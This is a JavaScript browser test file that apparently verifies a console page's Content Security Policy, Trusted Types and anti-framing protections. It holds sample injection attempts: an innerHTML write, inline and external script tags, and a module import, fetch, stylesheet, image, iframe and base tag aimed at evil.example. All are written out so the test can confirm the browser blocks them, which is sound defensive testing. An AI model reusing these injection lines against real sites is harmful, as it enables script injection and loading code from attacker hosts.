// What holds even if the page had a hole: the browser would not run what comes through it.
import assert from 'node:assert/strict';
import { Agent, sharedService } from './support/backend.mjs';
import { cardOf, live, newPerson, openSession, test, useBrowser } from './support/console.mjs';

useBrowser();
const service = sharedService();

async function opened(t) {
  const agent = new Agent(service);
  await agent.ask();
  const page = await openSession(t, service, agent, { expected: /Policy violated|Content Security Policy|Trusted(HTML|Script)|violates|Failed to load|Request to/ });
  await live(page);
  await cardOf(page, 'delete_file').waitFor();
  return page;
}

// What the browser reports while the page does something that it must not do.
const violationOf = (page, misdeed) => page.evaluate(async source => {
  const reported = new Promise(resolve => document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), { once: true }));
  try {
    await (0, globalThis[source])();
  } catch {
    // refused, as it should be
  }
  return reported;
}, misdeed);

const misdeeds = {
  'markup that becomes elements': ['require-trusted-types-for', () => { document.querySelector('main').innerHTML = '<b>bold</b>'; }],
  'a policy of one’s own': ['trusted-types', () => globalThis.trustedTypes.createPolicy('mine', { createHTML: text => text })],
  'inline code': ['require-trusted-types-for', () => document.body.append(Object.assign(document.createElement('script'), { text: 'globalThis.hasRun = true' }))],
  'a script by its address': ['require-trusted-types-for', () => document.body.append(Object.assign(document.createElement('script'), { src: '/console/main.js' }))],
  'a module from elsewhere': ['script-src-elem', () => import('https://evil.example/x.js')],
  'a style from elsewhere': ['style-src-elem', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' }))],
  'a picture from elsewhere': ['img-src', () => { new Image().src = 'https://evil.example/x.png'; }],
  'a request to elsewhere': ['connect-src', () => fetch('https://evil.example/')],
  'a frame': ['frame-src', () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))],
  'another base': ['base-uri', () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))],
};

test('the browser refuses what the page never does', async t => {
  const page = await opened(t);
  for (const [name, [directive, misdeed]] of Object.entries(misdeeds)) {
    await page.evaluate(`globalThis.misdeed = ${misdeed}`);
    assert.equal(await violationOf(page, 'misdeed'), directive, name);
  }
  assert.equal(await page.evaluate(() => globalThis.hasRun), undefined);
  assert.equal(await page.locator('main b').count(), 0);
});

test('no other page can show it in a frame', async t => {
  const person = await newPerson(t);
  const other = await person.newPage();
  await other.route('http://other.example/', route => route.fulfill({ contentType: 'text/html', body: `<iframe src="${service.url}/console"></iframe>` }));
  await other.goto('http://other.example/');

  const frame = await other.locator('iframe').elementHandle().then(element => element.contentFrame());
  await frame.waitForLoadState();

  assert.equal(await frame.evaluate(() => document.querySelector('#main')), null);
});
